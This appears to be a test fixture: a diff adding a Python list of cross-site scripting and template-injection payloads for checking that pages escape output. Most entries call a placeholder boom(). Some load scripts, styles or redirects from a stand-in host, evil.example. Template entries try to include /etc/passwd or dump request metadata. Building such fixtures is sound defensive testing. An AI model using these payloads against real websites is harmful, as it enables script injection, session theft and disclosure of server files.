@@ -1,0 +1,78 @@
+"""Texts that become code wherever a page forgets to escape: they call ``boom()``, or ask another host for something."""
+
+from __future__ import annotations
+
+_TAGS = [
+    "<script>boom()</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "</script><script>boom()</script>",
+    "</title><script>boom()</script>",
+    "</style><script>boom()</script>",
+    "</textarea><script>boom()</script>",
+    "</noscript><script>boom()</script>",
+    "</template><script>boom()</script>",
+    "</svg><script>boom()</script>",
+    "--><script>boom()</script><!--",
+    "]]><script>boom()</script>",
+    "<scr<script>ipt>boom()</scr</script>ipt>",
+    "<script/x>boom()</script>",
+    "<script\x0b>boom()</script>",
+    "<script>boom()//",
+    "<img src=x onerror=boom()>",
+    "<img src=//evil.example/x.png>",
+    "<IMG SRC=x ONERROR=boom()>",
+    "<img src=x onerror=boom() ",
+    "<img/src=x/onerror=boom()>",
+    '<img src="x` `<script>boom()</script>"` `>',
+    "<svg onload=boom()>",
+    "<svg><script>boom()</script></svg>",
+    "<svg><animate onbegin=boom() attributeName=x dur=1s>",
+    "<svg><use href=//evil.example/x.svg#a></svg>",
+    "<math><mi//xlink:href='data:x,<script>boom()</script>'>",
+    "<body onload=boom()>",
+    "<details open ontoggle=boom()>",
+    "<input autofocus onfocus=boom()>",
+    "<select autofocus onfocus=boom()>",
+    "<video src=x onerror=boom()>",
+    "<audio src=x onerror=boom()>",
+    "<video><source onerror=boom()></video>",
+    "<object data=javascript:boom()>",
+    "<embed src=javascript:boom()>",
+    "<iframe src=javascript:boom()>",
+    "<iframe srcdoc='<script>parent.boom()</script>'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<style>*{background:url(//evil.example/x.png)}</style>",
+    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
+    "<base href=//evil.example/>",
+    "<form action=//evil.example/><button autofocus onfocus=boom()>",
+    "<marquee onstart=boom()>",
+    "<div style='animation:beat 1s' onanimationstart=boom()>",
+    "<a href=javascript:boom() autofocus onfocus=boom()>x</a>",
+]
+_ATTRIBUTES = [
+    '" onmouseover="boom()" autofocus onfocus="boom()" x="',
+    "' onmouseover='boom()' autofocus onfocus='boom()' x='",
+    '"><script>boom()</script>',
+    "'><script>boom()</script>",
+    " onfocus=boom() autofocus tabindex=1 ",
+    "javascript:boom()",
+    "data:text/html,<script>boom()</script>",
+]
+_TEMPLATES = [
+    "{% include '/etc/passwd' %}{{ 7|add:7 }}",
+    "{{ request.META }}{% debug %}",
+    "${boom()}",
+    "{{constructor.constructor('boom()')()}}",
+]
+_ENCODED = [
+    "&lt;script&gt;boom()&lt;/script&gt;",
+    "&#60;img src=x onerror=boom()&#62;",
+    "\\u003cscript\\u003eboom()\\u003c/script\\u003e",
+    "+ADw-script+AD4-boom()+ADw-/script+AD4-",
+    "%3Cscript%3Eboom()%3C/script%3E",
+    "\u202e<script>boom()</script>\u2066",
+    "\x00<script>boom()</script>",
+]
+
+PAYLOADS = [*_TAGS, *_ATTRIBUTES, *_TEMPLATES, *_ENCODED]
